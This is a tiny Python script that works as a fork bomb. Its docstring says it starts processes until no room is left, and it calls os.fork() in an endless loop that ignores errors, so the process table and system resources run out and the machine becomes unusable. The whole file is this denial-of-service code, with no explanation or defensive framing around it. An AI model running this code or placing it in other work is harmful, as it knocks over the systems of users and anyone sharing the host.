"""Starts processes until there is no room for more."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
